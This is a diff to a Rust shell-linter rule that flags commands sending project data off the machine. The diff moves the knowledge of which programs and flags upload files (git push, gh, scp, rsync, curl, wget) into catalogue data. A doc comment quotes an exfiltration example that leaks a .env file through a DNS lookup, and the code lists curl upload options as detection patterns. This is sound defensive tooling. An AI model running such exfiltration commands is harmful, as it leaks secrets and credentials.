@@ -3,12 +3,13 @@
 //! host, command output sent out inside a host name or a request (`dig
 //! $(cat .env).example.com`). Publishing a package and force pushes are BG210's.
 
+use crate::catalogue::Entry;
 use crate::catalogue::{Fact, Role};
 use crate::declare_rule;
 use crate::model::command::SimpleCommand;
 use crate::model::word::{Part, Word};
 use crate::rules::Checker;
-use crate::rules::invocation::{Invocation, entry_of};
+use crate::rules::invocation::{Invocation, any_entry, entry_of};
 
 declare_rule! {
     /// ## What it does
@@ -104,39 +105,26 @@ fn push_remote<'c>(inv: &Invocation<'c>) -> Option<&'c Word> {
     None
 }
 
-/// Per command: pushes to URLs, uploads, copies to hosts, output sent out.
+/// Per command: pushes to URLs, uploads, copies to hosts, output sent out. Which
+/// programs, subcommands and flags send files is catalogue data (the fact
+/// `sends-files`); how each kind of operand is judged is here.
 pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
     let Some(entry) = entry_of(cmd) else {
         return;
     };
     let output = cmd.args().iter().any(carries_output);
-    if !output && !matches!(entry.name, "git" | "gh" | "scp" | "rsync" | "curl" | "wget") {
+    let flag_sends = entry.flag_may_add(Fact::SendsFiles);
+    let sends = flag_sends || any_entry(entry, &|e: &Entry| e.has(Fact::SendsFiles));
+    if !output && !sends {
         return;
     }
     let Some(inv) = Invocation::of(cmd) else {
         return;
     };
-    match (inv.program, inv.leaf_name()) {
-        ("git", Some("push")) => {
-            if let Some(remote) = push_remote(&inv)
-                && let Some(value) = remote.value()
-            {
-                let url = value.strip_prefix("--repo=").unwrap_or(value);
-                if is_remote_location(url) {
-                    cx.report(
-                        &DATA_LEAVES,
-                        remote.span,
-                        format!(
-                            "pushes the project's history to {url}, a location named in the command rather than a configured remote"
-                        ),
-                    );
-                }
-            }
-        }
-        ("gh", _) => gh_upload(&inv, cmd, cx),
-        ("scp" | "rsync", _) => copy_to_host(&inv, cmd, cx),
-        ("curl" | "wget", _) => upload(cmd, cx),
-        _ => {}
+    if let Some(leaf) = inv.leaf.filter(|l| l.has(Fact::SendsFiles)) {
+        sent(&inv, leaf, cmd, cx);
+    } else if flag_sends {
+        upload(entry, cmd, cx);
     }
     if output
         && inv.has(Fact::Network)
@@ -153,43 +141,53 @@ pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
     }
 }
 
-/// `gh gist create FILE...`, `gh release create TAG FILE...`, `gh release upload TAG
-/// FILE...`.
-fn gh_upload(inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
-    let words = inv.words();
-    let operands: Vec<&Word> = inv.operands().collect();
-    // Where the files start among the words: after `gist create`, after `release
-    // create TAG`.
-    let from = match (
-        words.first().copied().flatten(),
-        words.get(1).copied().flatten(),
-    ) {
-        (Some("gist"), Some("create" | "new")) => 2usize,
-        (Some("release"), Some("create" | "new" | "upload")) => 3,
-        _ => return,
-    };
-    // The operands are the words after the subcommands the catalogue knew.
-    let skip = from.saturating_sub(inv.subcommands.len());
-    let files: Vec<&&Word> = operands.iter().skip(skip).collect();
+/// A use that sends what it names: a copy whose destination (the entry's `last`
+/// operand) is another host; a push to a location (a `url` operand) named in the
+/// command; or the files (`path-read` operands) an upload names.
+fn sent(inv: &Invocation, leaf: &'static Entry, cmd: &SimpleCommand, cx: &mut Checker) {
+    if leaf.last.is_some() {
+        copy_to_host(inv, leaf, cmd, cx);
+        return;
+    }
+    if leaf.operands.first() == Some(&Role::Url) {
+        if let Some(remote) = push_remote(inv)
+            && let Some(value) = remote.value()
+        {
+            let url = value.strip_prefix("--repo=").unwrap_or(value);
+            if is_remote_location(url) {
+                cx.report(
+                    &DATA_LEAVES,
+                    remote.span,
+                    format!(
+                        "pushes the project's history to {url}, a location named in the command rather than a configured remote"
+                    ),
+                );
+            }
+        }
+        return;
+    }
+    let values: Vec<Option<&str>> = inv.rest.iter().map(Word::value).collect();
+    let files: Vec<&Word> = crate::catalogue::classify(leaf, &values)
+        .into_iter()
+        .filter(|a| !a.option_value && a.role == Role::PathRead)
+        .filter_map(|a| inv.rest.get(a.index))
+        .collect();
     if let Some(first) = files.first() {
         cx.report(
             &DATA_LEAVES,
             first.span,
             format!(
-                "uploads {} file(s) of the project to GitHub (`{}`)",
+                "uploads {} file(s) of the project (`{}`)",
                 files.len(),
                 cx.source
                     .get(cmd.span.start..first.span.start)
-                    .unwrap_or("gh")
+                    .unwrap_or(inv.program)
                     .trim()
             ),
         );
     }
 }
 
-/// Options of `curl`/`wget` that send a file's content (`-T FILE`, `-d @FILE`,
-/// `-F name=@FILE`, `--post-file=FILE`).
-const UPLOAD_OPTIONS: &[&str] = &["-T", "--upload-file", "--post-file", "--body-file"];
 /// Options whose value sends a file when it starts with `@` (or has `=@`/`=<`).
 const DATA_OPTIONS: &[&str] = &[
     "-d",
@@ -202,8 +200,16 @@ const DATA_OPTIONS: &[&str] = &[
     "--form",
 ];
 
-/// `curl -T FILE URL`, `curl -d @FILE URL`, `curl -F f=@FILE`, `wget --post-file`.
-fn upload(cmd: &SimpleCommand, cx: &mut Checker) {
+/// `curl -T FILE URL`, `curl -d @FILE URL`, `curl -F f=@FILE`, `wget --post-file`:
+/// the options the entry marks `sends-files`, and those whose value names a file
+/// with curl's `@`/`<` syntax.
+fn upload(entry: &Entry, cmd: &SimpleCommand, cx: &mut Checker) {
+    let sends_always = |option: &str| {
+        entry
+            .flag_facts
+            .iter()
+            .any(|f| f.facts.contains(&Fact::SendsFiles) && f.flags.contains(&option))
+    };
     let args = cmd.args();
     for (i, word) in args.iter().enumerate() {
         let Some(v) = word.value() else {
@@ -221,7 +227,7 @@ fn upload(cmd: &SimpleCommand, cx: &mut Checker) {
             _ => (v, None),
         };
         let value = attached.or_else(|| args.get(i + 1).and_then(Word::value));
-        let sends_file = if UPLOAD_OPTIONS.contains(&option) {
+        let sends_file = if sends_always(option) {
             true
         } else if DATA_OPTIONS.contains(&option) {
             value.is_none_or(|d| d.starts_with('@') || d.contains("=@") || d.contains("=<"))
@@ -243,11 +249,8 @@ fn upload(cmd: &SimpleCommand, cx: &mut Checker) {
 }
 
 /// `scp`/`rsync` whose last operand is another host.
-fn copy_to_host(inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
+fn copy_to_host(inv: &Invocation, entry: &Entry, cmd: &SimpleCommand, cx: &mut Checker) {
     let values: Vec<Option<&str>> = cmd.args().iter().map(Word::value).collect();
-    let Some(entry) = inv.entry else {
-        return;
-    };
     let operands: Vec<usize> = crate::catalogue::classify(entry, &values)
         .into_iter()
         .filter(|a| !a.option_value && matches!(a.role, Role::PathRead | Role::PathWrite))
